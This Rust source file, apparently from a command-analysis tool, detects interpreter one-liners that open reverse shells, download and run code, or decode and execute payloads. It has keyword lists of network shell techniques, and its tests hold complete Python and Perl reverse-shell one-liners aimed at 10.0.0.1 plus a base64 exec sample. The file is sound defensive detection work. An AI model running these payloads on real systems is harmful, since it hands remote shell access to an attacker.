//! Interpreter one-liners: `python -c`, `perl -e`, `ruby -e`, `php -r`, `node -e`, `lua -e`,
//! `awk` programs. Code that opens a socket and runs a shell over it (dup2, pty.spawn,
//! subprocess, exec, `/inet/tcp`) is a reverse shell; code that decodes a payload and runs it
//! (b64decode + exec/eval) is obfuscated execution. Other one-liners are left alone.

use super::needles::Needles;
use super::{args, ClassSet, Ctx, Findings};
use crate::analysis::shell::code::inline_code;
use crate::knowledge::{signals, ToolClass};

static SOCKET: Needles = Needles::ignore_ascii_case(&[
    "socket",
    "tcpsocket",
    "fsockopen",
    "net.connect",
    "net.socket",
    "/inet/tcp",
    "io::socket",
    "require('net')",
    "require(\"net\")",
    "createconnection",
    "stream_socket_client",
]);
static SHELL_EXEC: Needles = Needles::ignore_ascii_case(&[
    "dup2",
    "pty.spawn",
    "subprocess",
    "/bin/sh",
    "/bin/bash",
    "sh -i",
    "exec(",
    "system(",
    "popen",
    "spawn(",
    "child_process",
    "os.system",
    "exec \"/bin",
    "proc_open",
    "shell_exec",
    "|&",
    "io.popen",
    "system$_",
    "fdopen",
    "exec sh",
    "exec bash",
    // julia runs a command in backticks.
    "`sh ",
    "`bash ",
]);
/// Inline code that runs a known reverse-shell command itself.
static SHELL_COMMANDS: Needles = Needles::ignore_ascii_case(&[
    "nc -e",
    "ncat -e",
    "nc -c",
    "/dev/tcp/",
    "bash -i >&",
    "sh -i >&",
    "mkfifo",
]);
static FETCH: Needles = Needles::ignore_ascii_case(&[
    "urlopen",
    "urllib",
    "requests.get",
    "http.get",
    "https.get",
    "lwp::simple",
    "open-uri",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "net::http",
    "fetch(",
]);
static DECODE: Needles = Needles::ignore_ascii_case(&[
    "b64decode",
    "base64",
    "decode_base64",
    "unpack(\"m",
    "unpack('m",
    "fromhex",
    "unhexlify",
    "codecs.decode",
    "zlib.decompress",
    "atob(",
]);
static RUN: Needles = Needles::ignore_ascii_case(&[
    "exec(",
    "eval(",
    "system(",
    "popen",
    "loads(",
    "function(",
    "compile(",
]);

static PTY_SPAWN: Needles = Needles::ignore_ascii_case(&["pty.spawn"]);

pub fn wants(cx: &Ctx) -> bool {
    cx.runs_any(ClassSet::of(&[ToolClass::Interpreter]))
}

pub fn detect(cx: &Ctx, out: &mut Findings) {
    for c in cx.commands() {
        let p = c.program();
        if c.class != Some(ToolClass::Interpreter) {
            continue;
        }
        let Some(code) = inline_code(p, args(c)) else {
            continue;
        };
        let has = |set: &Needles| set.any_in(code);
        // Code whose command-running calls were read (`os.system('nc -e ..')`) has its
        // commands judged as commands; the keyword test is for the calls not read.
        if (has(&SOCKET) && has(&SHELL_EXEC)) || (!c.holds_commands && has(&SHELL_COMMANDS)) {
            let signal = if p.starts_with("python") {
                signals::PYTHON_REVERSE_SHELL
            } else {
                signals::SCRIPT_REVERSE_SHELL
            };
            out.hit(
                signal,
                format!(
                    "{p} one-liner opening a socket and running a shell{}",
                    ip_hint(code)
                ),
            );
        } else if has(&FETCH) && has(&RUN) {
            out.hit(
                signals::DOWNLOAD_PIPE_SHELL,
                format!("{p} one-liner downloading and running code"),
            );
        } else if p.starts_with("python") && has(&PTY_SPAWN) && !cx.tty {
            out.hit(
                signals::PTY_UPGRADE,
                format!("{p} pty.spawn without a terminal"),
            );
        } else if has(&DECODE) && has(&RUN) {
            out.hit(
                signals::INLINE_CODE_DECODE_EXEC,
                format!("{p} one-liner decoding and running a payload"),
            );
        }
    }
}

/// ` to HOST:PORT` when the code holds a quoted address followed by a port.
fn ip_hint(code: &str) -> String {
    let bytes = code.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i].is_ascii_digit() {
            let start = i;
            while i < bytes.len() && (bytes[i].is_ascii_digit() || bytes[i] == b'.') {
                i += 1;
            }
            let cand = &code[start..i];
            if cand.matches('.').count() == 3 {
                let rest = &code[i..];
                let port: String = rest
                    .trim_start_matches(|c: char| !c.is_ascii_digit() && c != ')' && c != ';')
                    .chars()
                    .take_while(char::is_ascii_digit)
                    .collect();
                return if port.is_empty() {
                    format!(" to {cand}")
                } else {
                    format!(" to {cand}:{port}")
                };
            }
        }
        i += 1;
    }
    String::new()
}

#[cfg(test)]
mod tests {
    use super::super::testutil::*;
    use super::*;

    #[test]
    fn fires_on_socket_shells() {
        let py = "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")";
        assert_eq!(
            run(detect, &["python3", "-c", py]),
            ["python_reverse_shell"]
        );
        let pl = "use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};";
        assert_eq!(run(detect, &["perl", "-e", pl]), ["script_reverse_shell"]);
        assert_eq!(
            run(
                detect,
                &[
                    "python3",
                    "-c",
                    "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"
                ]
            ),
            ["inline_code_decode_exec"]
        );
    }

    #[test]
    fn quiet_on_plain_one_liners() {
        assert!(run(
            detect,
            &[
                "python3",
                "-c",
                "import json,sys; print(json.load(sys.stdin)['version'])"
            ]
        )
        .is_empty());
        assert!(run(
            detect,
            &[
                "perl",
                "-pi",
                "-e",
                "s/^#?Port 22$/Port 2222/",
                "/etc/ssh/sshd_config"
            ]
        )
        .is_empty());
        assert!(run(detect, &["awk", "{print $1}", "file"]).is_empty());
    }
}
